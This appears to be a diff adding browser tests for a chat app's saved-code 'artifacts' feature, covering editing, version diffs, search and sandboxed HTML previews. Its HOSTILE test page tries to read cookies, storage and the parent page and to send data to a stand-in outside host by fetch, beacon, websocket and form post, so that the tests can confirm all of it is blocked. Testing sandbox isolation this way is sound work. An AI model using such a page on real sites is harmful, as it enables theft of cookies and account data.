@@ -1,0 +1,177 @@
+"""Code is kept from an answer, edited, compared and found; and what runs in the frame reaches nothing."""
+
+from __future__ import annotations
+
+import http.server
+import json
+import re
+import threading
+from collections.abc import Callable, Iterator
+
+import pytest
+from playwright.sync_api import Browser, Page, expect
+
+from tests.fakes.openai_server import Answer
+from tests.functional.conftest import ADDRESSES, ScriptedHub, finished, shoot, sign_up
+from tests.functional.test_accessibility import faults
+
+ANSWER = """## Adding up
+
+```python
+def add(a, b):
+    return a - b
+```
+
+| a | b | sum |
+|---|---|----:|
+| 1 | 2 | 3 |
+"""
+# What a page that means harm tries; each line notes what came of it.
+HOSTILE = """<!doctype html><meta charset="utf-8"><title>x</title>
+<style>body { background: url(OUT/style) } @import "OUT/import.css";</style>
+<link rel="prefetch" href="OUT/prefetch"><link rel="preconnect" href="OUT"><base href="OUT/">
+<img src="OUT/img"><script src="OUT/script.js"></script><iframe src="OUT/frame"></iframe>
+<form id="form" action="OUT/form"><input name="a" value="b"></form><p id="said"></p>
+<script>
+const tried = {};
+const note = (name, act) => { try { tried[name] = String(act()) } catch (error) { tried[name] = "refused" } };
+note("cookie", () => document.cookie);
+note("storage", () => localStorage.length);
+note("parent", () => parent.document.title);
+note("top", () => { top.location = "OUT/top"; return "led away" });
+note("popup", () => open("OUT/popup") ? "opened" : "refused");
+note("origin", () => self.origin);
+note("form", () => { document.getElementById("form").submit(); return "sent" });
+note("worker", () => { new Worker("data:text/javascript,fetch('OUT/worker')"); return "made" });
+note("beacon", () => navigator.sendBeacon("OUT/beacon", "x"));
+note("socket", () => { new WebSocket("OUT/socket".replace("http", "ws")); return "made" });
+note("image", () => { new Image().src = "OUT/image"; return "asked" });
+const show = () => { document.getElementById("said").textContent = JSON.stringify(tried) };
+fetch("OUT/fetch", { mode: "no-cors" }).then(() => (tried.fetch = "sent"), () => (tried.fetch = "refused"))
+  .then(() => fetch("HUB/chat/api/account", { credentials: "include" }))
+  .then(() => (tried.account = "read"), () => (tried.account = "refused")).then(show);
+setTimeout(() => { location = "OUT/away" }, 300);
+show();
+</script>"""
+
+
+@pytest.fixture
+def outside() -> Iterator[tuple[str, list[str]]]:
+    """A server elsewhere, and the addresses that it was asked for."""
+    asked: list[str] = []
+
+    class Handler(http.server.BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            asked.append(self.path)
+            self.send_response(200)
+            self.end_headers()
+
+        do_POST = do_GET
+
+        def log_message(self, *args: object) -> None: ...
+
+    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    threading.Thread(target=server.serve_forever, daemon=True).start()
+    yield f"http://127.0.0.1:{server.server_port}", asked
+    server.shutdown()
+    server.server_close()
+
+
+def write(page: Page, title: str, kind: str, content: str) -> None:
+    page.locator("#artifact-kind").select_option(kind)
+    page.locator("#artifact-title").fill(title)
+    page.locator("#artifact-content").fill(content)
+    page.get_by_role("button", name="Keep", exact=True).click()
+    page.wait_for_url(re.compile(r"/artifacts/art_"))
+
+
+def artifacts_of(page: Page) -> str:
+    workspace = page.locator("body").get_attribute("data-workspace")
+    return f"/workspaces/{workspace}/artifacts/"
+
+
+@pytest.mark.parametrize(("size", "scheme"), [("desktop", "light"), ("phone", "dark")])
+def test_code_is_kept_edited_compared_and_found(
+    open_scripted_page: Callable[..., Page], scripted_hub: ScriptedHub, size: str, scheme: str
+) -> None:
+    scripted_hub.server.respond = lambda request: Answer(ANSWER)
+    page = open_scripted_page(size, scheme)
+    sign_up(page, f"keeper-{size}")
+    page.locator(".composer textarea").fill("How do I add up in Python?")
+    page.keyboard.press("Enter")
+    answer = page.locator(".message--assistant").last
+    finished(answer)
+    keep = answer.locator(".keep-bar button")
+    expect(keep).to_have_count(2)
+    shoot(page, f"artifact-keep-{size}")
+    keep.first.click()
+    panel = page.locator("#panel")
+    expect(panel.locator(".artifact__title")).to_have_text("Adding up", timeout=10_000)
+    expect(panel.locator("pre")).to_contain_text("return a - b")
+    shoot(page, f"artifact-panel-{size}")
+    assert faults(page) == []
+    panel.locator("summary", has_text="Edit").click()
+    panel.locator("textarea").fill("def add(a, b):\n    return a + b\n")
+    panel.get_by_role("button", name="Save as a new version").click()
+    expect(panel.locator("pre")).to_contain_text("return a + b")
+    expect(panel.get_by_text("Version 2")).to_be_visible()
+    panel.get_by_role("link", name="Versions").click()
+    expect(page.locator(".diff__removed")).to_contain_text("return a - b")
+    expect(page.locator(".diff__added")).to_contain_text("return a + b")
+    shoot(page, f"artifact-versions-{size}")
+    assert faults(page) == []
+    page.get_by_role("button", name="Bring back").click()
+    expect(page.locator(".artifact pre")).to_contain_text("return a - b")
+    shoot(page, f"artifact-page-{size}")
+    assert faults(page) == []
+    address = artifacts_of(page)
+    page.goto(address.replace("/artifacts/", "/search/") + "?q=add+a+b")
+    expect(page.locator(".found").filter(has_text="Adding up").first).to_be_visible()
+    shoot(page, f"search-{size}")
+    assert faults(page) == []
+    page.goto(address)
+    shoot(page, f"artifacts-{size}")
+    assert faults(page) == []
+
+
+def test_a_page_runs_in_its_frame(open_scripted_page: Callable[..., Page]) -> None:
+    page = open_scripted_page()
+    sign_up(page, "framed")
+    page.goto(artifacts_of(page))
+    write(page, "Hello", "html", "<h1>Hello</h1><script>document.body.append('it runs')</script>")
+    expect(page.frame_locator(".artifact__frame").locator("body")).to_contain_text("it runs")
+    shoot(page, "artifact-frame")
+    page.get_by_role("link", name="Source").click()
+    expect(page.locator(".artifact pre")).to_contain_text("document.body.append")
+    assert page.locator("iframe").count() == 0
+
+
+def test_what_runs_in_the_frame_reaches_nothing(
+    browser: Browser, scripted_hub: ScriptedHub, outside: tuple[str, list[str]]
+) -> None:
+    there, asked = outside
+    context = browser.new_context(
+        base_url=scripted_hub.address, extra_http_headers={"X-Forwarded-For": next(ADDRESSES)}
+    )
+    page = context.new_page()
+    try:
+        sign_up(page, "attacked")
+        page.goto(artifacts_of(page))
+        write(page, "Hostile", "html", HOSTILE.replace("OUT", there).replace("HUB", scripted_hub.address))
+        address, title = page.url, page.title()
+        said = page.frame_locator(".artifact__frame").locator("#said")
+        expect(said).to_contain_text('"account"', timeout=10_000)
+        tried = json.loads(said.inner_text())
+        refused = {"cookie", "storage", "parent", "fetch", "account", "popup", "top"}
+        assert {name: tried[name] for name in refused} == dict.fromkeys(refused, "refused")
+        assert tried["origin"] == "null"
+        page.wait_for_timeout(1000)  # what it tries a little later
+        assert asked == []
+        assert (page.url, page.title(), len(context.pages)) == (address, title, 1)
+        # Opened in a tab of its own it could lead the whole tab away: the page around it is shown instead.
+        page.goto(f"{address}frame/")
+        assert page.url == address
+        page.wait_for_timeout(500)
+        assert asked == []
+    finally:
+        context.close()
